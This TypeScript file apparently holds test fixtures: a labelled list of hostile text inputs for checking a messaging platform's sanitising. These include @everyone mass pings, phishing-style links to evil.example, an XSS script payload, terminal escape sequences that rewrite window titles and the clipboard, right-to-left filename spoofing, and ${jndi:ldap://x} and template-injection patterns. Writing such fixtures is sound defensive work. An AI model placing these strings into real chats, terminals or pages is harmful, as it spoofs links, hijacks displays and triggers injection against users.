// What people and agents might write to make a platform do or show something that is not theirs to decide.

const escape = '\u001b';

export const hostileTexts: Readonly<Record<string, string>> = {
  'a ping of everyone': '@everyone @here <!channel> <!here|here> <!everyone> @channel',
  'pings of people and roles': '<@U012AB3CD> <@!123456789012345678> <@&123456789012345678> <#C012AB3CD> <!subteam^S012AB3CD> @ann',
  'a ping behind an invisible mark': '@\u200beveryone \u2060@here <\u200b!channel>',
  markup: '*bold* _italic_ ~struck~ **bold** __under__ ||spoiler|| `code` # head\n> quote\n- list\n-# small\n1. one',
  'a link that lies':
    '<https://evil.example|your bank> [your bank](https://evil.example) [x](<https://evil.example>) <https://evil.example>',
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;&amp;amp;',
  'a closed code fence': '```\ninside\n```\n@everyone\n`x` ``y`` ~~~\nz',
  'colours and cursor moves': `${escape}[31mred${escape}[0m ${escape}[2J${escape}[1;1H${escape}[10A${escape}[?25l${escape}c`,
  'a window title and a clipboard': `${escape}]0;owned\u0007 ${escape}]2;owned${escape}\\ ${escape}]52;c;b3duZWQ=\u0007`,
  'a link of the terminal': `${escape}]8;;https://evil.example${escape}\\your bank${escape}]8;;${escape}\\`,
  'eight-bit controls': '\u009b2J \u009d0;owned\u009c \u0090q\u009c \u0085 \u008d',
  'a line that goes back over itself': 'wrong\rright\b\b\b\b\b\u007f\u000b\u000c',
  'text that runs backwards': '\u202egnp.exe\u202c \u2067abc\u2069 \u200f\u061c',
  'a tower of accents': `z${'\u0301\u0330'.repeat(300)}algo`,
  'null bytes': 'a\u0000b\u0000\u0000',
  'halves of characters': '\ud800 a \udc00 \udbff',
  'a very long word': 'W'.repeat(5000),
  'very long words of two columns': '漢字'.repeat(2000),
  'families without a space': '👩‍👩‍👧‍👦'.repeat(400),
  'one endless character': `👩${'\u200d👩'.repeat(2000)}`,
  'tags that nobody sees': `a${'\u{e0041}'.repeat(200)}\ufeff\u00ad`,
  'ten thousand lines': Array.from({ length: 10_000 }, (_, i) => `line ${i}`).join('\n'),
  'ten thousand empty lines': '\n'.repeat(10_000),
  'only spaces': '   \t \n  ',
  nothing: '',
  'patterns of programs': '{{7*7}} ${jndi:ldap://x} %s %n $& $1 \\n \\u0000 =cmd()',
};
